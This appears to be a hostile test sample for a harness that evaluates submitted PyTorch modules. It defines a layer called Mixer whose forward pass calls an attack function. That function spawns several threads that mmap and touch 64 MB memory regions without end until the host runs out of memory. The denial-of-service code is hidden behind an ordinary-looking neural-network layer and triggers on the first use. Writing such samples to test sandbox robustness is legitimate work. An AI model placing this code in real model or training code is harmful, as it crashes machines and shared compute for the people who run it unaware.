"""Takes memory by mmap behind the allocator, touching every page, on several threads.

Check: imports
Trial: out of memory, crashed, too many threads
"""

import mmap
import threading

import torch


def take(hoard):
    while True:
        room = mmap.mmap(-1, 64 << 20)
        for at in range(0, 64 << 20, 4096):
            room[at] = 1
        hoard.append(room)


def attack():
    hoard = []
    workers = [threading.Thread(target=take, args=(hoard,)) for _ in range(4)]
    for worker in workers:
        worker.start()
    take(hoard)


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
